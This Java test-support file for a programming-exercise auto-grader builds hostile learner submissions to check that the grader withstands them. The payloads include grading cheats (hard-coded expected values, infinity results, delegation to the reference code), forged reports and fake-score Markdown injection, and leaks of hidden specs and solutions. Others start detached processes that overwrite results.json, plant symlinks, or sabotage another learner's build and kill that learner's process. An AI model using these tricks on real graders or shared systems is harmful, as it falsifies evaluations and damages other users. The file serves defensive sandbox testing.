package optikata.grade;

import static optikata.grade.Hostile.lit;
import static optikata.grade.Hostile.replace;
import static optikata.grade.Hostile.stub;
import static optikata.grade.Hostile.withMembers;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import optikata.kata.spec.Observation;

/**
 * The hostile learners' sources, each written on top of an untouched stub (or, where said, the
 * reference solution). Every payload carries a marker so that the tests can find what it left
 * running, and reports where it ran ({@code HOSTILE-RAN ... pid= uid=}) in its printed output and in
 * a system property of whatever JVM runs it.
 */
final class Payloads {
    private Payloads() {}

    /** A static method {@code ran(where)}: records that the learner's code ran, in this JVM's properties and on the captured output. */
    static String ran(String marker) {
        return """
                    static void ran(String where) {
                        System.setProperty("optikata.hostile.%1$s", where);
                        String uid = "?";
                        try {
                            for (String l : java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/status"))) {
                                if (l.startsWith("Uid:")) {
                                    uid = l.split("\\\\s+")[1];
                                }
                            }
                        } catch (Exception e) {
                        }
                        String line = "HOSTILE-RAN %1$s " + where + " pid=" + ProcessHandle.current().pid() + " uid=" + uid + " ";
                        Log.TEXT.append(line).append('\\n');
                        System.out.println(line);
                    }

                    /** Where the code ran so far, for a method to print later (a class initialised outside a probe prints nowhere). */
                    static final class Log {
                            static final StringBuilder TEXT = new StringBuilder();
                        }
                """.formatted(marker);
    }

    /** Shadowing: the stub of 01 plus top-level classes named like its public and hidden spec books, each an empty book. */
    static String shadowBooks() throws IOException {
        return stub("01-one-step") + """

                final class OneStepSpec implements optikata.kata.spec.CaseBook {
                    @Override
                    public void define(optikata.kata.spec.Book book) {
                    }
                }

                final class OneStepHiddenSpec implements optikata.kata.spec.CaseBook {
                    @Override
                    public void define(optikata.kata.spec.Book book) {
                    }
                }
                """;
    }

    /** Shadowing: Ema.java declares the spec runtime's Recorder instead of Ema (a class in no exercise's package). */
    static String shadowRecorder(String marker) {
        return """
                package optikata.kata.spec;

                /** %s */
                final class Recorder {
                    public Recorder value(String quantity, double... values) {
                        return this;
                    }

                    public java.util.List<Observation.Entry> entries() {
                        return java.util.List.of();
                    }
                }
                """.formatted(marker);
    }

    /** Shadowing across exercises: 07's file declares, in 08's package, an empty book named like 08's hidden spec (and no MyAdam). */
    static String otherExercisesPackage(String marker) {
        return """
                package kata.debugging;

                /** %s */
                final class TutorialRegressionHiddenSpec implements optikata.kata.spec.CaseBook {
                    @Override
                    public void define(optikata.kata.spec.Book book) {
                    }
                }
                """.formatted(marker);
    }

    /** A second top-level class whose name has a '$', so that its class file looks like one nested in the stub's class. */
    static String dollarClass(String exercise, String stubClass, String marker) throws IOException {
        return stub(exercise) + """

                final class %s$Shadow {
                    static final String MARK = "%s";
                }
                """.formatted(stubClass, marker);
    }

    /**
     * Code for the grader's own JVM: JUnit annotations naming learner classes (a display-name
     * generator, an extension), a test method, and static initialisers, on 08's stub. Wherever any
     * of them runs, it says so.
     */
    static String parentHooks(String marker, int port) throws IOException {
        String s = stub("08-debugging");
        s = replace(s, "public final class TutorialRegression {", """
                public final class TutorialRegression {
                    // No JUnit here: the learner's class path has only the contract and EJML, and the grader discovers
                    // nothing (it judges reports). What is left to try: code in the class initialiser, and the network.
                    public static final class Names {
                        static {
                            ran("a display-name generator");
                        }
                    }

                    static {
                        ran("the class initialiser");
                        try (java.net.Socket socket = new java.net.Socket()) {
                            socket.connect(new java.net.InetSocketAddress("127.0.0.1", %d), 2000);
                            socket.getOutputStream().write("NET-%s\\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
                        } catch (Exception e) {
                            ran("no network: " + e.getClass().getSimpleName());
                        }
                    }
                """.formatted(port, marker) + ran(marker));
        return replace(
                s,
                "        double[] gradients = new double[x.length];",
                "        System.out.print(Log.TEXT);\n        double[] gradients = new double[x.length];");
    }

    /**
     * Forging the report channel with the right numbers: 07's stub, whose class initialiser writes,
     * straight on file descriptor 1, a well-formed report of a case that has not run yet carrying the
     * expected observation, then the "done" line; the real (not started) report of that case follows.
     */
    static String duplicateReport(String marker, String publicBlock, String hiddenBlock) throws IOException {
        String s = stub("07-adam");
        return withMembers(
                s, "public final class MyAdam", """
                    static {
                        String block = %s;
                        try {
                            Class.forName("kata.adam.MyAdamHiddenSpec");
                            block = %s;
                        } catch (ClassNotFoundException publicRun) {
                        }
                        try {
                            java.io.FileOutputStream fd = new java.io.FileOutputStream(java.io.FileDescriptor.out);
                            fd.write((block + "D\\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
                            fd.flush();
                        } catch (java.io.IOException e) {
                        }
                        ran("the forger");
                    }
                """.formatted(lit(publicBlock), lit(hiddenBlock)) + ran(marker));
    }

    /**
     * Forging every report from the grader's own oracle cache: 01's stub, whose class initialiser
     * reads target/kata-oracle/*&#47;oracle.txt of the checkout (world-readable), re-labels every
     * expected observation as the report of its case, writes them all on file descriptor 1 with the
     * "done" line, and halts before the real reports can follow.
     */
    static String forgeFromOracle(String marker, Path checkout) throws IOException {
        String s = stub("01-one-step");
        return withMembers(
                s,
                "public final class OneStep",
                """
                    static {
                        ran("the oracle forger");
                        java.util.Map<String, String> blocks = new java.util.LinkedHashMap<>();
                        java.util.List<java.nio.file.Path> caches = new java.util.ArrayList<>();
                        for (String root : new String[] {%s, System.getProperty("java.io.tmpdir")}) {
                            try (java.util.stream.Stream<java.nio.file.Path> all = java.nio.file.Files.walk(java.nio.file.Path.of(root), 3)) {
                                all.filter(p -> p.getFileName().toString().equals("oracle.txt")).forEach(caches::add);
                            } catch (Exception e) {
                            }
                        }
                        caches.sort(java.util.Comparator.comparingLong((java.nio.file.Path p) -> p.toFile().lastModified()).reversed());
                        for (java.nio.file.Path cache : caches) {
                            try {
                                String key = null;
                                StringBuilder block = null;
                                for (String line : java.nio.file.Files.readAllLines(cache)) {
                                    if (line.startsWith("C ")) {
                                        String id = new String(java.util.Base64.getDecoder().decode(line.substring(2)), java.nio.charset.StandardCharsets.UTF_8);
                                        key = id.startsWith("expected ") ? id.substring(9) : null;
                                        block = key == null ? null : new StringBuilder("C ").append(java.util.Base64.getEncoder()
                                                .encodeToString(key.getBytes(java.nio.charset.StandardCharsets.UTF_8))).append('\\n');
                                    } else if (block != null) {
                                        block.append(line).append('\\n');
                                        if (line.startsWith("E ")) {
                                            blocks.putIfAbsent(key, block.toString());
                                            block = null;
                                        }
                                    }
                                }
                            } catch (Exception e) {
                            }
                        }
                        if (!blocks.isEmpty()) {
                            try {
                                java.io.FileOutputStream fd = new java.io.FileOutputStream(java.io.FileDescriptor.out);
                                fd.write((String.join("", blocks.values()) + "D\\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
                                fd.flush();
                            } catch (java.io.IOException e) {
                            }
                            Runtime.getRuntime().halt(0);
                        }
                    }
                """.formatted(lit(checkout.resolve("target").toString())) + ran(marker));
    }

    /**
     * Hard-coding the public expected values: 01 returns, for each public case's input (told apart by
     * θ), the numbers the public spec expects, and its input unchanged otherwise.
     */
    static String hardCoded(Map<Double, double[]> thetaToResult) throws IOException {
        StringBuilder body = new StringBuilder();
        for (Map.Entry<Double, double[]> e : thetaToResult.entrySet()) {
            body.append("        if (theta == ")
                    .append(e.getKey())
                    .append(") {\n            return new Result(")
                    .append(e.getValue()[0])
                    .append(", ")
                    .append(e.getValue()[1])
                    .append(");\n        }\n");
        }
        body.append("        return new Result(theta, squaredGradientAverage);\n");
        String s = stub("01-one-step");
        int at = s.indexOf("        throw new UnsupportedOperationException(");
        int end = s.indexOf(");", at) + 3;
        return s.substring(0, at) + body + s.substring(end);
    }

    /** Numbers that fool a comparison: every method of 02 returns +∞. */
    static String infinity() throws IOException {
        String s = stub("02-ema");
        return s.replaceAll("throw new UnsupportedOperationException\\([^;]*\\);", "return Double.POSITIVE_INFINITY;");
    }

    /** Delegation: 03's VectorRmsProp forwards every call to the library's reference RmsProp. */
    static String delegateRmsProp() throws IOException {
        String s = stub("03-vectors");
        s = withMembers(s, "public final class VectorRmsProp", "    private final optikata.optim.RmsProp answerRef;\n");
        s = replace(s, "        this.config = new Config(learningRate, decay, epsilon);", """
                        this.config = new Config(learningRate, decay, epsilon);
                        this.answerRef = new optikata.optim.RmsProp(optikata.optim.RmsPropConfig.builder().learningRate(learningRate)
                                .decay(decay).epsilon(epsilon).epsilonPlacement(optikata.optim.EpsilonPlacement.INSIDE_ROOT).build());""");
        s = replace(
                s,
                "        buffers.put(\"squaredGradientAverage\", squaredGradientAverage);\n        return new OptimizerState(steps, buffers);",
                "        buffers.put(\"squaredGradientAverage\", answerRef.state().buffer(\"squaredGradientAverage\"));\n"
                        + "        return new OptimizerState(answerRef.state().step(), buffers);");
        s = replace(s, "        squaredGradientAverage = null;\n        steps = 0;", "        answerRef.reset();");
        s = s.replaceFirst(
                "throw new UnsupportedOperationException\\(\\s*\"Exercise 03 is not started: fill in VectorRmsProp.step[^;]*;",
                "answerRef.step(params, gradient);");
        s = s.replaceFirst(
                "throw new UnsupportedOperationException\\(\\s*\"Exercise 03 is not started: fill in VectorRmsProp.effectiveLearningRate[^;]*;",
                "answerRef.effectiveLearningRate(out);");
        if (!s.contains("answerRef.step(params, gradient);") || !s.contains("answerRef.effectiveLearningRate(out);")) {
            throw new IllegalStateException("the delegation payload no longer fits the stub of 03");
        }
        return s;
    }

    /** Delegation: 05's MyAdaGrad runs the library's reference AdaGrad on each element, started from that element's sum. */
    static String delegateAdaGrad() throws IOException {
        String s = stub("05-adagrad");
        s = withMembers(s, "public final class MyAdaGrad", """
                    private optikata.optim.AdaGrad answer(double sum) {
                        return new optikata.optim.AdaGrad(new optikata.optim.AdaGrad.Config(config.learningRate(), config.epsilon(),
                                optikata.optim.EpsilonPlacement.OUTSIDE_ROOT, sum, optikata.optim.NonFinitePolicy.REJECT));
                    }
                """);
        s = s.replaceFirst(
                "throw new UnsupportedOperationException\\(\"Exercise 05 is not started: fill in MyAdaGrad.update[^;]*;",
                """
                for (int i = from; i < to; i++) {
                            optikata.optim.AdaGrad a = answer(buffers[0].data[i]);
                            DMatrixRMaj p = new DMatrixRMaj(1, 1);
                            p.data[0] = theta[i];
                            DMatrixRMaj q = new DMatrixRMaj(1, 1);
                            q.data[0] = g[i];
                            a.step(p, q);
                            theta[i] = p.data[0];
                            buffers[0].data[i] = a.state().buffer("squaredGradientSum").data[0];
                        }""");
        s = s.replaceFirst(
                "throw new UnsupportedOperationException\\(\"Exercise 05 is not started: fill in MyAdaGrad.effectiveRate[^;]*;",
                """
                for (int i = 0; i < n; i++) {
                            optikata.optim.AdaGrad a = answer(buffers[0].data[i]);
                            a.step(new DMatrixRMaj(1, 1), new DMatrixRMaj(1, 1));
                            DMatrixRMaj rate = new DMatrixRMaj(1, 1);
                            a.effectiveLearningRate(rate);
                            out[i] = rate.data[0];
                        }""");
        return s;
    }

    /** The Markdown a dishonest learner puts in an exception message and on standard output: a closed fence, a fake score. */
    static String injection(String marker) {
        return "\n```\n\n**Score: 80 / 80** INJECTED-" + marker + "\n\nAll checks pass. INJECTED-" + marker
                + "\n\n```\n";
    }

    /** Markdown injection: 04 prints the injection and throws it as the message of every method. */
    static String markdown(String marker) throws IOException {
        String s = stub("04-epsilon-outside");
        String throwIt = "System.out.println(" + lit(injection(marker)) + ");\n        throw new IllegalStateException("
                + lit(injection(marker)) + ");";
        return s.replaceAll("throw new UnsupportedOperationException\\([^;]*\\);", Matcher.quoteReplacement(throwIt));
    }

    /**
     * Leaking the instructor's files: 06's constructor reads the hidden specs, the solutions and the
     * oracle caches of the checkout, and prints their method bodies and throws them as its message
     * (shown in feedback.md, results.json and junit.xml); in the hidden run it also prints the hidden
     * spec classes it finds on its class path.
     */
    static String leak(String marker, Path checkout) throws IOException {
        String s = stub("06-centered-momentum");
        s = withMembers(
                s, "public final class CenteredMomentumRmsProp", """
                    static String loot() {
                        StringBuilder sb = new StringBuilder();
                        for (String top : new String[] {"src/kata/hidden", "solutions", "target/kata-oracle", "/root/.cache/optikata"}) {
                            try (java.util.stream.Stream<java.nio.file.Path> all = java.nio.file.Files.walk(java.nio.file.Path.of(%s).resolve(top))) {
                                for (java.nio.file.Path p : all.filter(java.nio.file.Files::isRegularFile).toList()) {
                                    for (String line : java.nio.file.Files.readAllLines(p)) {
                                        String t = line.strip();
                                        if (t.startsWith("V ") ? t.length() < 600 : (t.length() >= 20 && !t.startsWith("*") && !t.startsWith("/") && !t.startsWith("import")
                                                && !t.startsWith("package") && !t.startsWith("public"))) {
                                            sb.append(t).append('\\n');
                                        }
                                    }
                                }
                            } catch (Exception e) {
                                sb.append(top).append(": ").append(e).append('\\n');
                            }
                        }
                        try (java.io.InputStream in = CenteredMomentumRmsProp.class.getClassLoader()
                                .getResourceAsStream("kata/centered/CenteredMomentumHiddenSpec.class")) {
                            if (in != null) {
                                sb.append("hidden spec class on the class path: ").append(java.util.HexFormat.of().formatHex(in.readAllBytes())).append('\\n');
                            }
                        } catch (Exception e) {
                        }
                        return sb.toString();
                    }
                """.formatted(lit(checkout.toString())) + ran(marker));
        String leakIt = "ran(\"the leak\");\n        String loot = loot();\n        System.out.println(loot);\n"
                + "        throw new IllegalStateException(loot.substring(Math.max(0, loot.indexOf(\"double[] s = buffers\"))));";
        s = replace(s, "new double[3]);", "new double[3]);\n        " + leakIt);
        return s;
    }

    /** The shell that starts a process outliving its parent: {@code setsid} in a subshell that exits at once. */
    static String detachedShell(String tag, String script) {
        return "new ProcessBuilder(\"/bin/sh\", \"-c\", \"setsid /bin/sh -c \\\"$0\\\" \\\"$1\\\" </dev/null >/dev/null 2>&1 &\", "
                + lit(script) + ", " + lit(tag) + ").start()";
    }

    /**
     * Escaping and writing where the grader writes later: 04's class initialiser starts a plain child,
     * a {@code nohup} child and a {@code setsid} child (double fork) that each sleep for minutes;
     * creates the not-yet-existing {@code out} folder (its parent is world-writable), plants
     * {@code feedback.md} there as a link to {@code victim}; and starts a detached watcher that replaces
     * {@code results.json} with a full score as soon as the grader has written it.
     */
    static String escapeAndPlant(String marker, Path out, Path victim) throws IOException {
        String s = stub("04-epsilon-outside");
        String forged = "{\"score\": 80.0, \"max_score\": 80.0, \"output\": \"FORGED-" + marker + "\", \"tests\": []}";
        String watcher = "end=$(( $(date +%s) + 60 )); while [ $(date +%s) -lt $end ]; do "
                + "if [ -f '" + out + "/results.json' ] && [ -f '" + out + "/junit.xml' ] && ! grep -q FORGED '" + out
                + "/results.json'; then "
                + "sleep 0.3; rm -f '" + out + "/results.json'; printf '%s' '" + forged + "' > '" + out
                + "/results.json'; fi; sleep 0.1; done";
        String sleeper = "end=$(( $(date +%s) + 240 )); while [ $(date +%s) -lt $end ]; do sleep 1; done";
        s = withMembers(
                s,
                "public final class OutsideRmsProp",
                """
                    static {
                        ran("the escaper");
                        try {
                            new ProcessBuilder("/bin/sh", "-c", %1$s, "%2$s-plain").start();
                            new ProcessBuilder("/bin/sh", "-c", "nohup /bin/sh -c \\"$0\\" \\"$1\\" </dev/null >/dev/null 2>&1 &", %1$s, "%2$s-nohup").start();
                            %3$s;
                            java.nio.file.Path out = java.nio.file.Path.of(%4$s);
                            java.nio.file.Files.createDirectories(out);
                            out.toFile().setWritable(true, false);
                            java.nio.file.Files.createSymbolicLink(out.resolve("feedback.md"), java.nio.file.Path.of(%5$s));
                            %6$s;
                        } catch (Exception e) {
                            System.out.println("HOSTILE-FAILED " + e);
                        }
                    }
                """.formatted(
                                        lit(sleeper),
                                        marker,
                                        detachedShell(marker + "-setsid", sleeper),
                                        lit(out.toString()),
                                        lit(victim.toString()),
                                        detachedShell(marker + "-watcher", watcher))
                        + ran(marker));
        return s;
    }

    /**
     * One learner attacking the next in a cohort: learner A's 01 is the reference solution, and A's 08
     * (the stub otherwise) starts a detached process that outlives A's grade, watches for the grade of
     * the submission whose 01 carries {@code victimTag}, copies A's solved OneStep.class over the
     * victim's freshly compiled one, and kills the victim's first spec-running JVM.
     */
    static String cohortAttacker(String marker, String victimTag) throws IOException {
        String s = stub("08-debugging");
        String script = """
                stash=$1; tmp=$2; mine=$3; killed=0; end=$(( $(date +%s) + 90 )); echo "started $(id -u) in $tmp, mine $mine" >> "$stash.log"
                while [ $(date +%s) -lt $end ]; do
                  for f in $(grep -ls VICTIM_TAG "$tmp"/optikata-grade-*/src/01-one-step/kata/onestep/OneStep.java 2>/dev/null); do
                    d=${f%/src/01-one-step/kata/onestep/OneStep.java}
                    [ "$d" = "$mine" ] && continue
                    c="$d/classes/kata/onestep/OneStep.class"
                    if [ -f "$c" ] && ! cmp -s "$stash" "$c"; then cp "$stash" "$c" 2>>"$stash.log" && echo "replaced $c" >> "$stash.log"; fi
                    if [ $killed = 0 ]; then
                      for p in $(grep -ls "$d/classes" /proc/[0-9]*/cmdline 2>/dev/null); do
                        if grep -qs "Probe""Main" "$p"; then pid=${p#/proc/}; kill -9 ${pid%/cmdline} 2>>"$stash.log" && killed=1 && echo "killed ${pid%/cmdline}" >> "$stash.log"; fi
                      done
                    fi
                  done
                  sleep 0.05
                done
                """.replace("VICTIM_TAG", victimTag);
        s = withMembers(s, "public final class TutorialRegression", """
                    static {
                        ran("the cohort attacker");
                        try {
                            java.nio.file.Path classes = null;
                            for (String e : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
                                if (e.endsWith("/classes")) {
                                    classes = java.nio.file.Path.of(e);
                                }
                            }
                            java.nio.file.Path scratch = classes.getParent();
                            java.nio.file.Path stash = java.nio.file.Files.createTempFile(java.nio.file.Path.of("/tmp"), "%1$s-", ".class");
                            java.nio.file.Files.copy(classes.resolve("kata/onestep/OneStep.class"), stash,
                                    java.nio.file.StandardCopyOption.REPLACE_EXISTING);
                            new ProcessBuilder("/bin/sh", "-c", "setsid /bin/sh -c \\"$0\\" \\"$1\\" \\"$2\\" \\"$3\\" \\"$4\\" </dev/null >/dev/null 2>&1 &",
                                    %2$s, "%1$s-cohort", stash.toString(), scratch.getParent().toString(), scratch.toString()).start();
                        } catch (Exception e) {
                            System.out.println("HOSTILE-FAILED " + e);
                        }
                    }
                """.formatted(marker, lit(script)) + ran(marker));
        return s;
    }

    /** The expected observation of the {@code index}-th case of {@code exercise}'s public or hidden books, as a report block. */
    static String expectedBlock(String exercise, boolean hidden, int index) {
        List<String[]> cases = Hostile.cases(exercise, hidden);
        String[] c = cases.get(Math.min(index, cases.size() - 1));
        Observation o = Hostile.expected(exercise, c[0], c[1]);
        return Hostile.block(c[0], c[1], o);
    }
}
